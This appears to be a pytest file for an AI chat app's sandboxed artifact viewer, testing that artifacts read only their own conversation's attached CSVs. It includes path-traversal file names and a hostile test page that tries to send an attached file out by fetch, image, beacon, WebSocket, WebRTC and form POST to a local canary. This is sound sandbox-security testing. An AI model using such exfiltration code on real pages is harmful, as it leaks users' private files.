"""window.fs.readFile (DESIGN.md §4.1) in real QtWebEngine: an artifact charts the rows of the
CSV attached to its conversation with the vendored Chart.js, offline; it cannot read another
conversation's files or escape with a path-like name; `render --conversation` does the same."""

from __future__ import annotations

import asyncio
import subprocess
import sys
from pathlib import Path

import pytest

from app.artifact_bridge import ArtifactBridge
from app.artifact_storage import ArtifactStorage
from app.attachment_model import Attachment
from app.attachment_store import file_reader, save_attachments
from app.store import Store
from app.store_recovery import open_history
from sandbox.bridge import BridgeEndpoint
from sandbox.profile import make_artifact_profile
from sandbox.view import ArtifactView
from tests.attachment_files import CSV_ROWS
from tests.canary import Canary
from tests.test_artifact_bridge import Harness

ROOT = Path(__file__).resolve().parents[1]

# What a model writes for "chart this CSV": read the file, parse its rows, draw them.
CHART = """<!DOCTYPE html><html><head>
<script src="https://cdn.jsdelivr.net/npm/chart.js"></script></head><body>
<canvas id=c width=400 height=200></canvas><p id=rows>reading</p><script>
(async () => {
  try {
    const text = await window.fs.readFile("sales.csv", {encoding: "utf8"});
    const [header, ...lines] = text.trim().split("\\n");
    const rows = lines.map((line) => line.split(","));
    window.chart = new Chart(document.getElementById("c"), {type: "bar", data: {
      labels: rows.map((r) => r[0]),
      datasets: [{label: header.split(",")[1], data: rows.map((r) => Number(r[1]))}]}});
    document.getElementById("rows").textContent = rows.map((r) => r.join(":")).join(" ");
  } catch (error) {
    document.getElementById("rows").textContent = "failed: " + error.message;
  }
})();
</script></body></html>"""


class FilesHarness(Harness):
    """The window's wiring of the bridge, with the conversation's attached files."""

    def __init__(self, path: Path, network_gate) -> None:
        self.store = Store(path)
        self.conversation = self.store.create_conversation(provider="p", model="m").id
        self.storage = ArtifactStorage(self.store)
        self.client = _NoClient()  # no model here: Harness.close closes it
        self.bridge = ArtifactBridge(self.storage, self.store, files=file_reader(self.store))
        self.endpoint = BridgeEndpoint(self.bridge, lambda coro: asyncio.ensure_future(coro))
        self.profile = make_artifact_profile(gate=network_gate, bridge=self.endpoint)
        self.view = ArtifactView(self.profile, open_links=False)
        self.view.resize(600, 400)
        self.view.show()

    def attach(self, conversation: int, name: str, data: bytes) -> None:
        message = self.store.add_message(conversation, "user", "chart this CSV")
        attachment = Attachment(name, "text/csv", "text", data, data.decode())
        save_attachments(self.store, conversation, message.id, [attachment])


class _NoClient:
    async def aclose(self) -> None:
        return None


@pytest.fixture
def harness(tmp_path, network_gate, qapp):
    return FilesHarness(tmp_path / "history.sqlite3", network_gate)


def test_an_artifact_charts_the_attached_csv(run_async, harness):
    other = harness.store.create_conversation().id
    harness.attach(harness.conversation, "sales.csv", CSV_ROWS.encode())
    harness.attach(other, "secret.csv", b"not,yours\n")

    async def scenario():
        await harness.show(harness.key("chart"), CHART)
        await harness.until(
            "document.getElementById('rows').textContent",
            "Jan:120 Feb:95 Mar:143 Apr:171",
        )
        drawn = await harness.js("[window.chart.data.labels, window.chart.data.datasets[0].data]")
        assert drawn == {"ok": [["Jan", "Feb", "Mar", "Apr"], [120, 95, 143, 171]]}
        raw = await harness.js("window.fs.readFile('sales.csv').then((b) => b.length)")
        assert raw == {"ok": len(CSV_ROWS.encode())}  # no encoding: a Uint8Array of the bytes
        for name in ("secret.csv", "../sales.csv", "/sales.csv", "x/../sales.csv", "missing"):
            refused = await harness.js(f"window.fs.readFile({name!r}, {{encoding: 'utf8'}})")
            assert refused == {
                "error": f"No file named {name!r} is attached to this conversation."
            }, name
        await harness.close()

    run_async(scenario())


def test_render_conversation_reads_the_attached_csv(easel_home):
    store = open_history().store
    conversation = store.create_conversation(provider="p", model="m").id
    message = store.add_message(conversation, "user", "chart this CSV")
    csv = Attachment("sales.csv", "text/csv", "text", CSV_ROWS.encode(), CSV_ROWS)
    save_attachments(store, conversation, message.id, [csv])
    store.add_artifact_version(conversation, "chart", "text/html", "Sales", CHART)
    store.close()
    result = subprocess.run(
        [sys.executable, str(ROOT / "main.py"), "render", "--conversation", str(conversation),
         "--artifact", "chart", "--text", "--wait", "1"],
        capture_output=True, text=True, timeout=90, cwd=ROOT,
    )  # fmt: skip
    assert result.returncode == 0, result.stderr
    assert result.stdout.strip() == "Jan:120 Feb:95 Mar:143 Apr:171"


def test_a_hostile_artifact_cannot_send_an_attached_file_anywhere(run_async, harness):
    """The attacker's page: read the attached file, then try every way out with its bytes —
    fetch, an image, a beacon, a form, WebSocket, WebRTC — at a TCP+UDP canary. The file is
    readable (that is the feature); nothing reaches the canary, and the refusals are reported."""
    canary = Canary()
    blocked: list[str] = []
    harness.view.requestBlocked.connect(blocked.append)
    harness.attach(harness.conversation, "sales.csv", CSV_ROWS.encode())
    target = f"http://127.0.0.1:{canary.port}"
    page = f"""<!DOCTYPE html><html><body><p id=out>reading</p><script>
(async () => {{
  const text = await window.fs.readFile("sales.csv", {{encoding: "utf8"}});
  const data = encodeURIComponent(text);
  const tries = [];
  tries.push(fetch("{target}/fetch?d=" + data).then(() => "fetch", () => "fetch refused"));
  new Image().src = "{target}/img?d=" + data;
  try {{ navigator.sendBeacon("{target}/beacon", text); }} catch (e) {{}}
  try {{ new WebSocket("ws://127.0.0.1:{canary.port}/ws?d=" + data); }} catch (e) {{}}
  try {{
    const pc = new RTCPeerConnection({{iceServers: [{{urls: "stun:127.0.0.1:{canary.port}"}}]}});
    pc.createDataChannel(text);
  }} catch (e) {{ tries.push(Promise.resolve("webrtc refused")); }}
  const form = document.createElement("form");
  form.action = "{target}/form"; form.method = "POST";
  const field = form.appendChild(document.createElement("input"));
  field.name = "d"; field.value = text;
  document.body.appendChild(form);
  document.getElementById("out").textContent = (await Promise.all(tries)).join(",") + " " +
    text.split("\\n").length;
  form.submit();
}})();
</script></body></html>"""

    async def scenario():
        await harness.show(harness.key("thief"), page)
        await harness.until(  # the file was read (every line of it), and fetch/WebRTC refused
            "document.getElementById('out') ? document.getElementById('out').textContent : ''",
            f"fetch refused,webrtc refused {len(CSV_ROWS.split(chr(10)))}",
        )
        for _ in range(40):  # let the image, beacon, socket and form try their luck
            await asyncio.sleep(0.05)
        await harness.close()

    try:
        run_async(scenario())
        assert canary.contacts == 0
        reported = " ".join(blocked)  # each way out is reported as blocked
        for way in ("/fetch?", "/img?", "/beacon", "/form", "ws://127.0.0.1", "WebRTC stun:"):
            assert way in reported, (way, blocked)
    finally:
        canary.close()
